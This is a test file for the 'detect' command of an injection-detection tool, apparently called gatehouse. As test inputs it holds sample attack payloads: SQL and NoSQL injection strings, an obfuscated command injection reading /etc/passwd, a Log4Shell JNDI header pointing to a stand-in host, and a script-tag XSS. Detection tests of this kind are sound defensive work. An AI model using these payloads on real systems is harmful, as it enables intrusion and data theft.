import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { Command } from 'commander';
import { describe, expect, it } from 'vitest';
import { registerDetect, runDetect } from './detect.js';

async function run(lines: string[], format: 'text' | 'jsonl' = 'jsonl', level: 1 | 2 | 3 | 4 = 1): Promise<{ code: number; out: string; err: string }> {
  const out = new PassThrough(), err = new PassThrough();
  let o = '', e = '';
  out.on('data', (c: Buffer) => { o += c.toString(); });
  err.on('data', (c: Buffer) => { e += c.toString(); });
  const code = await runDetect(Readable.from([lines.join('\n')]), out, err, format, level);
  return { code, out: o, err: e };
}

describe('gatehouse detect', () => {
  it('repeats each id, says attack true/false with categories and fragments, exits 1 on an attack', async () => {
    const r = await run([
      JSON.stringify({ id: 'a', value: "' OR 1=1--" }),
      JSON.stringify({ id: 'b', value: "O'Brien" }),
      JSON.stringify({ id: 'c', method: 'GET', uri: '/x?u[$ne]=1', headers: {} }),
    ]);
    expect(r.code).toBe(1);
    const rows = r.out.trim().split('\n').map((l) => JSON.parse(l) as { id: string; attack: boolean; categories: string[]; fragments: unknown[] });
    expect(rows.map((x) => [x.id, x.attack, x.categories])).toEqual([['a', true, ['sqli']], ['b', false, []], ['c', true, ['nosqli']]]);
  });
  it('explains each finding: rule, level, reason and the tokens that decided', async () => {
    const r = await run([JSON.stringify({ id: 'a', value: ';/bin/ca? /et?/pa??wd' })]);
    const row = JSON.parse(r.out) as { fragments: { rule: string; level: number; reason: string; tokens: string[] }[] };
    expect(row.fragments[0]).toMatchObject({ rule: 'cmdi.obfuscated-command', level: 1, tokens: [';', '/bin/ca?', '/et?/pa??wd'] });
    expect(row.fragments[0]?.reason).toMatch(/globbing/);
    const t = await run([JSON.stringify({ id: 'a', value: ';/bin/ca? /et?/pa??wd' })], 'text');
    expect(t.out).toBe('a\tATTACK\tcmdi: cmdi.obfuscated-command (level 1) on ";" "/bin/ca?" "/et?/pa??wd"\n');
  });
  it('applies the paranoia level it is given: a level-2 rule is silent at level 1', async () => {
    const line = JSON.stringify({ id: 'q', value: 'select current_user;' });
    expect((await run([line], 'jsonl', 1)).code).toBe(0);
    const r = await run([line], 'jsonl', 2);
    expect(r.code).toBe(1);
    expect(JSON.parse(r.out)).toMatchObject({ categories: ['sqli'], fragments: [{ rule: 'sqli.statement', level: 2 }] });
  });
  it('reads a raw HTTP request as text, with its location in the report', async () => {
    const raw = 'GET /search?q=ok HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://x.example/a}\r\n\r\n';
    const r = await run([JSON.stringify({ id: 'r', raw })]);
    expect(JSON.parse(r.out)).toMatchObject({ attack: true, fragments: [{ category: 'jndi', location: 'header.user-agent' }] });
    const bad = await run([JSON.stringify({ id: 'r', raw: 'not a request' })]);
    expect(bad.code).toBe(2);
    expect(bad.err).toContain('line 1: request line "not a request"');
  });
  it('exits 0 when nothing is an attack, and prints text by default', async () => {
    const r = await run([JSON.stringify({ id: 1, value: 'select the best option' })], 'text');
    expect(r.code).toBe(0);
    expect(r.out).toBe('1\tok\n');
  });
  it('exits 2 and names the line of bad input', async () => {
    const r = await run([JSON.stringify({ id: 1, value: 'x' }), '{not json', JSON.stringify({ id: 3 })]);
    expect(r.code).toBe(2);
    expect(r.err).toContain('line 2: invalid JSON');
    expect(r.err).toContain('line 3: expected "value"');
  });
  it('refuses a level outside 1..4 with a usage error', async () => {
    const program = new Command().exitOverride();
    registerDetect(program);
    let written = '';
    const orig = process.stderr.write.bind(process.stderr);
    process.stderr.write = ((c: string) => { written += c; return true; }) as typeof process.stderr.write;
    try {
      await program.parseAsync(['node', 'gatehouse', 'detect', '--level', '5']);
    } finally {
      process.stderr.write = orig;
    }
    expect(written).toContain('--level must be 1, 2, 3 or 4, not "5"');
    expect(process.exitCode).toBe(2);
    process.exitCode = 0;
  });
  it('registers a detect command that reads --input FILE', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'gh-detect-'));
    const file = join(dir, 'in.jsonl');
    writeFileSync(file, JSON.stringify({ id: 'x', value: '<script>alert(1)</script>' }) + '\n');
    const program = new Command().exitOverride();
    registerDetect(program);
    let written = '';
    const orig = process.stdout.write.bind(process.stdout);
    process.stdout.write = ((c: string) => { written += c; return true; }) as typeof process.stdout.write;
    try {
      await program.parseAsync(['node', 'gatehouse', 'detect', '--input', file, '--format', 'jsonl']);
    } finally {
      process.stdout.write = orig;
    }
    expect(JSON.parse(written)).toMatchObject({ id: 'x', attack: true, categories: ['xss'] });
    expect(process.exitCode).toBe(1);
    process.exitCode = 0;
  });
});
